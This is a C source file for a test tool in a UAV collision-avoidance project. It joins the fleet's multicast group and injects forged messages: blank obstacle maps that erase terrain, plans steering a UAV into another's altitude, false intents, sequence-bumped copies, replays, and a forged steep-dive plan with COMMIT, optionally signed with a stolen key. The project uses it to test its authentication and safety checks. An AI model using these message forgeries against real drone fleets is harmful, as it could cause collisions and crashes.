/* SPDX-License-Identifier: MIT */
/*
 * forge.c: an attacker on the multicast group, for the tests that fly the real processes
 * (tests/cli/multiprocess.sh). It speaks the project's messages with valid ids, times and
 * sequence numbers, which is all an unauthenticated network asks of it:
 *
 *   map      every 200 ms an obstacle map with the world's id, the largest version and
 *            no obstacles: it would erase the terrain, and lock the real map out as older;
 *   collide  for every intent of UAV --target, a plan from the configured coordinator for
 *            that cycle (a plan_id near the top) that flies it to the altitude of UAV
 *            --other, which was not told to move;
 *   intent   for every intent of UAV --other, one of its own with a larger sequence that
 *            puts UAV --other 300 m higher over the whole horizon: the others would stop
 *            avoiding it;
 *   copy     every intent of UAV --other sent again at once with its sequence numbers
 *            (the message's and the signature's) 1000 higher, the signature as it was:
 *            without signatures it would lock the real UAV out for cycles;
 *   replay   every intent, heartbeat, plan, map and track it hears, sent again unchanged
 *            1.5 s later;
 *   dive     for every intent of UAV --target, a plan from the configured coordinator for
 *            that cycle (a plan_id near the top) that dives it as steeply as it can over
 *            the whole horizon, and the COMMIT of that plan: with the coordinator's key
 *            (--key) only the UAV's own checks (its floor) stand in the way.
 * With --key FILE (a secret key file: a key stolen from a vehicle, say) it signs what it
 * forges (map, collide, intent, dive) with that key, and with --trust FILE (the trust
 * file stolen with it) tags them with the fleet key; otherwise its messages are unsigned.
 *
 * Its messages carry the nodes' time, taken from the intents it hears (a test's run is sped
 * up, so the wall clock would make them stale).
 *
 * Several attacks run at once when --attack lists them with commas (map,collide).
 *
 * usage: coavoid_test_forge --lcm-url URL --attack map|collide|intent|copy|replay|dive[,...]
 *                           --seconds S [--target ID] [--other ID] [--coordinator-id ID]
 *                           [--key FILE [--trust FILE]]
 * Prints how many messages it forged on stdout when it stops.
 */
#define _POSIX_C_SOURCE 200809L

#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <lcm/lcm.h>

#include "auth.h"
#include "coavoid_lcm.h"
#include "node.h"

/* Datagrams held for the replay: 1.5 s of a small fleet's traffic. */
#define FORGE_HELD 512
#define FORGE_BYTES 20000

typedef struct {
    int64_t due; /* wall time to send it again */
    char channel[32];
    int size;
    unsigned char bytes[FORGE_BYTES];
} held_t;

typedef struct {
    lcm_t *lcm;
    const char *attack;
    int32_t target, other, coordinator;
    double other_z; /* the other UAV's altitude now, once heard */
    int have_other;
    int64_t forged;
    int64_t clock_utime; /* the nodes' clock (a run may be sped up): the latest intent's */
    int sign;            /* --key given */
    coavoid_auth_signer_t signer;
    unsigned char buf[FORGE_BYTES];
    held_t *held;
    size_t held_next, held_sent;
    uint64_t sent_hash[FORGE_HELD]; /* of what it sent, to know its own echoes */
    size_t sent_count;
} forger_t;

static uint64_t fnv1a(const void *data, size_t size)
{
    const unsigned char *p = data;
    uint64_t h = UINT64_C(14695981039346656037);
    for (size_t i = 0; i < size; i++) {
        h = (h ^ p[i]) * UINT64_C(1099511628211);
    }
    return h;
}

/* Remembers a datagram it sends: its own come back to it, and an attack that answered
 * its own forgeries would flood the group (a different attack). */
static void remember(forger_t *f, const unsigned char *bytes, size_t size)
{
    f->sent_hash[f->sent_count++ % FORGE_HELD] = fnv1a(bytes, size);
}

static int sent_by_me(const forger_t *f, const lcm_recv_buf_t *rbuf)
{
    const uint64_t h = fnv1a(rbuf->data, rbuf->data_size);
    for (size_t i = 0; i < FORGE_HELD; i++) {
        if (f->sent_hash[i] == h) {
            return 1;
        }
    }
    return 0;
}

/* Encodes msg of a generated type into f->buf, signs it with the stolen key if there is
 * one, and publishes it on channel. */
#define FORGE_SEND(f, type, channel, msg) \
    forge_send((f), (channel), type##_encode((f)->buf, 0, (int)sizeof(f)->buf, (msg)))

static void forge_send(forger_t *f, const char *channel, int size)
{
    if (size <= 0 ||
        (f->sign && coavoid_auth_stamp(&f->signer, f->clock_utime, f->buf, (size_t)size) != 0)) {
        return;
    }
    remember(f, f->buf, (size_t)size);
    if (lcm_publish(f->lcm, channel, f->buf, (unsigned)size) == 0) {
        f->forged++;
    }
}

/* Whether attack `name` is among --attack's comma-separated names. */
static int attacks(const forger_t *f, const char *name)
{
    const size_t n = strlen(name);
    for (const char *p = f->attack; p != NULL && *p != '\0';
         p = strchr(p, ',') ? strchr(p, ',') + 1 : NULL) {
        if (strncmp(p, name, n) == 0 && (p[n] == ',' || p[n] == '\0')) {
            return 1;
        }
    }
    return 0;
}

static int64_t wall_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

static void forge_map(forger_t *f)
{
    coavoid_obstacle_map_t m;
    memset(&m, 0, sizeof m);
    m.utime = f->clock_utime;
    m.map_id = (int32_t)COAVOID_NODE_WORLD_ID;
    m.version = INT64_MAX;
    m.tile_count = 1; /* a whole map in one tile */
    FORGE_SEND(f, coavoid_obstacle_map_t, COAVOID_CHANNEL_OBSTACLES, &m);
}

/* The offsets of the forged row from the target's current offset o0: towards the other
 * UAV's altitude (rounded to the target's climb steps), as steeply as it can. */
static int32_t forged_offset(const forger_t *f, const coavoid_intent_t *t, int32_t k)
{
    const int32_t o0 = t->offsets[0];
    const int32_t s = t->steep_factor;
    const double dh = t->climb_rate * t->step;
    const double steps = (f->other_z - t->position[2]) / dh;
    const int32_t goal = o0 + (int32_t)lround(steps);
    const int32_t reach = s * k;
    return goal > o0 ? (o0 + reach < goal ? o0 + reach : goal)
                     : (o0 - reach > goal ? o0 - reach : goal);
}

/* The identity of a forged plan for the target's cycle, of the target alone (a whole plan
 * of one UAV in one message), its offsets left zero. */
static void forged_plan_of(const forger_t *f, const coavoid_intent_t *t, coavoid_plan_t *m)
{
    memset(m, 0, sizeof *m);
    m->utime = t->utime + 1;
    m->coordinator_id = f->coordinator;
    m->plan_id = INT64_MAX - 1 - f->forged;
    m->valid_from_utime = t->plan_utime;
    m->valid_until_utime = t->plan_utime + llround(t->step * 1e6);
    m->dt = t->step;
    m->horizon = t->sample_count - 1;
    m->mode = COAVOID_PLAN_T_MODE_CENTRALISED;
    m->status = COAVOID_PLAN_T_STATUS_SOLVED;
    m->vehicle_count = 1;
    m->planned_count = 1;
    m->uav_ids[0] = f->target;
    m->row_uav_id = f->target;
}

static void forge_plan(forger_t *f, const coavoid_intent_t *t)
{
    static coavoid_plan_t m;
    forged_plan_of(f, t, &m);
    for (int32_t k = 0; k <= m.horizon; k++) {
        int32_t o = forged_offset(f, t, k);
        m.offsets[k] = o > 32767 ? 32767 : (o < -32767 ? -32767 : o);
    }
    FORGE_SEND(f, coavoid_plan_t, COAVOID_CHANNEL_PLAN, &m);
}

/* The dive attack: a one-UAV plan of the target's cycle, steep dives from its offset now,
 * then the coordinator's COMMIT of it. */
static void forge_dive(forger_t *f, const coavoid_intent_t *t)
{
    static coavoid_plan_t m;
    forged_plan_of(f, t, &m);
    for (int32_t k = 0; k <= m.horizon; k++) {
        const int64_t o = (int64_t)t->offsets[0] - (int64_t)t->steep_factor * k;
        m.offsets[k] = (int32_t)(o < -32767 ? -32767 : o);
    }
    FORGE_SEND(f, coavoid_plan_t, COAVOID_CHANNEL_PLAN, &m);
    static coavoid_agreement_t c;
    memset(&c, 0, sizeof c);
    c.utime = m.utime + 1;
    c.kind = COAVOID_AGREEMENT_T_KIND_COMMIT;
    c.node_id = f->coordinator;
    c.coordinator_id = f->coordinator;
    c.plan_id = m.plan_id;
    c.valid_from_utime = m.valid_from_utime;
    FORGE_SEND(f, coavoid_agreement_t, COAVOID_CHANNEL_AGREEMENT, &c);
}

/* UAV --other's intent, 300 m higher all along, newer than the real one. */
static void forge_intent(forger_t *f, const coavoid_intent_t *real)
{
    static coavoid_intent_t m;
    m = *real;
    m.sequence = real->sequence + 1;
    m.utime = real->utime + 1;
    m.position[2] += 300.0;
    for (int32_t k = 0; k < m.sample_count; k++) {
        m.reference[k][2] += 300.0;
    }
    memset(&m.auth, 0, sizeof m.auth);
    FORGE_SEND(f, coavoid_intent_t, COAVOID_CHANNEL_INTENT, &m);
}

/* The real intent again, its sequences 1000 higher, its signature untouched: only a
 * signature check tells it from the sender's next one. */
static void forge_copy(forger_t *f, const coavoid_intent_t *real)
{
    static coavoid_intent_t m;
    m = *real;
    m.sequence += 1000;
    m.auth.sequence += 1000;
    int size = coavoid_intent_t_encode(f->buf, 0, (int)sizeof f->buf, &m);
    if (size <= 0) {
        return;
    }
    remember(f, f->buf, (size_t)size);
    if (lcm_publish(f->lcm, COAVOID_CHANNEL_INTENT, f->buf, (unsigned)size) == 0) {
        f->forged++;
    }
}

/* Holds a datagram heard, to send it again 1.5 s later (the oldest is dropped when full). */
static void hold(forger_t *f, const lcm_recv_buf_t *rbuf, const char *channel)
{
    if (f->held == NULL || rbuf->data_size > FORGE_BYTES || strlen(channel) >= 32) {
        return;
    }
    held_t *h = &f->held[f->held_next % FORGE_HELD];
    if (f->held_next - f->held_sent == FORGE_HELD) {
        f->held_sent++;
    }
    h->due = wall_us() + 1500000;
    strcpy(h->channel, channel);
    h->size = (int)rbuf->data_size;
    memcpy(h->bytes, rbuf->data, rbuf->data_size);
    f->held_next++;
}

static void replay_due(forger_t *f)
{
    while (f->held_sent < f->held_next) {
        held_t *h = &f->held[f->held_sent % FORGE_HELD];
        if (h->due > wall_us()) {
            return;
        }
        remember(f, h->bytes, (size_t)h->size);
        f->held_sent++;
        if (lcm_publish(f->lcm, h->channel, h->bytes, (unsigned)h->size) == 0) {
            f->forged++;
        }
    }
}

static void on_any(const lcm_recv_buf_t *rbuf, const char *channel, void *user)
{
    forger_t *f = user;
    if (!sent_by_me(f, rbuf)) { /* each datagram is replayed once */
        hold(f, rbuf, channel);
    }
}

static void on_intent(const lcm_recv_buf_t *rbuf, const char *channel, void *user)
{
    forger_t *f = user;
    static coavoid_intent_t decoded;
    const coavoid_intent_t *msg = &decoded;
    (void)channel;
    if (sent_by_me(f, rbuf) ||
        coavoid_intent_t_decode(rbuf->data, 0, (int)rbuf->data_size, &decoded) < 0) {
        return;
    }
    f->clock_utime = msg->utime > f->clock_utime ? msg->utime : f->clock_utime;
    if (msg->uav_id == f->other) {
        f->other_z = msg->position[2];
        f->have_other = 1;
    }
    if (msg->uav_id == f->target && attacks(f, "collide") && f->have_other) {
        forge_plan(f, msg);
    }
    if (msg->uav_id == f->target && attacks(f, "dive")) {
        forge_dive(f, msg);
    }
    if (msg->uav_id == f->other && attacks(f, "intent")) {
        forge_intent(f, msg);
    }
    if (msg->uav_id == f->other && attacks(f, "copy") && msg->sequence < INT64_MAX - 2000) {
        forge_copy(f, msg);
    }
}

/* The secret key file at path into s; 0, or -1 with a line on stderr. */
static int read_key(const char *path, coavoid_auth_signer_t *s)
{
    char text[COAVOID_AUTH_LINE_MAX + 2], err[128];
    FILE *in = fopen(path, "r");
    size_t n = in != NULL ? fread(text, 1, sizeof text - 1, in) : 0;
    if (in != NULL) {
        fclose(in);
    }
    if (coavoid_auth_signer_parse(s, text, n, err, sizeof err) != 0) {
        fprintf(stderr, "forge: --key %s: %s\n", path, in != NULL ? err : "cannot read");
        return -1;
    }
    return 0;
}

/* The fleet key of the trust file at path into s; 0, or -1 with a line on stderr. */
static int read_trust(const char *path, coavoid_auth_signer_t *s)
{
    static char text[65536];
    static coavoid_auth_trust_t trust;
    char err[128];
    FILE *in = fopen(path, "r");
    size_t n = in != NULL ? fread(text, 1, sizeof text - 1, in) : 0;
    if (in != NULL) {
        fclose(in);
    }
    if (coavoid_auth_trust_parse(&trust, text, n, err, sizeof err) != 0) {
        fprintf(stderr, "forge: --trust %s: %s\n", path, in != NULL ? err : "cannot read");
        return -1;
    }
    coavoid_auth_signer_use_fleet(s, &trust);
    return 0;
}

static int parse(int argc, char **argv, forger_t *f, const char **url, double *seconds)
{
    const char *trust = NULL;
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *k = argv[i], *v = argv[i + 1];
        if (strcmp(k, "--lcm-url") == 0) {
            *url = v;
        } else if (strcmp(k, "--attack") == 0) {
            f->attack = v;
        } else if (strcmp(k, "--seconds") == 0) {
            *seconds = atof(v);
        } else if (strcmp(k, "--target") == 0) {
            f->target = atoi(v);
        } else if (strcmp(k, "--other") == 0) {
            f->other = atoi(v);
        } else if (strcmp(k, "--coordinator-id") == 0) {
            f->coordinator = atoi(v);
        } else if (strcmp(k, "--key") == 0) {
            if (read_key(v, &f->signer) != 0) {
                return -1;
            }
            f->sign = 1;
        } else if (strcmp(k, "--trust") == 0) {
            trust = v;
        } else {
            return -1;
        }
    }
    if (trust != NULL && (!f->sign || read_trust(trust, &f->signer) != 0)) {
        return -1;
    }
    return (argc % 2 == 1 && f->attack != NULL && *seconds > 0) ? 0 : -1;
}

int main(int argc, char **argv)
{
    static forger_t f;
    f.target = 1;
    f.other = 2;
    f.coordinator = (int32_t)COAVOID_NODE_COORDINATOR_ID;
    const char *url = NULL;
    double seconds = 0;
    if (parse(argc, argv, &f, &url, &seconds) != 0) {
        fprintf(stderr,
                "usage: coavoid_test_forge --lcm-url URL --attack "
                "map|collide|intent|copy|replay|dive --seconds S [--target ID] [--other ID] "
                "[--coordinator-id ID] [--key FILE [--trust FILE]]\n");
        return 2;
    }
    if (attacks(&f, "replay")) {
        f.held = calloc(FORGE_HELD, sizeof *f.held);
        if (f.held == NULL) {
            return 2;
        }
    }
    f.lcm = lcm_create(url);
    if (f.lcm == NULL) {
        fprintf(stderr, "forge: cannot open %s\n", url != NULL ? url : "(default)");
        return 2;
    }
    lcm_subscription_t *sub = lcm_subscribe(f.lcm, COAVOID_CHANNEL_INTENT, on_intent, &f);
    lcm_subscription_t *all =
        f.held != NULL ? lcm_subscribe(f.lcm, "COAVOID_.*", on_any, &f) : NULL;
    const int64_t end = wall_us() + (int64_t)(seconds * 1e6);
    int64_t next_map = 0;
    while (wall_us() < end) {
        if (attacks(&f, "map") && f.clock_utime > 0 && wall_us() >= next_map) {
            forge_map(&f);
            next_map = wall_us() + 200000;
        }
        if (f.held != NULL) {
            replay_due(&f);
        }
        lcm_handle_timeout(f.lcm, f.held != NULL ? 5 : 50);
    }
    printf("forged %lld\n", (long long)f.forged);
    lcm_unsubscribe(f.lcm, sub);
    if (all != NULL) {
        lcm_unsubscribe(f.lcm, all);
    }
    lcm_destroy(f.lcm);
    free(f.held);
    coavoid_auth_signer_clear(&f.signer);
    return 0;
}
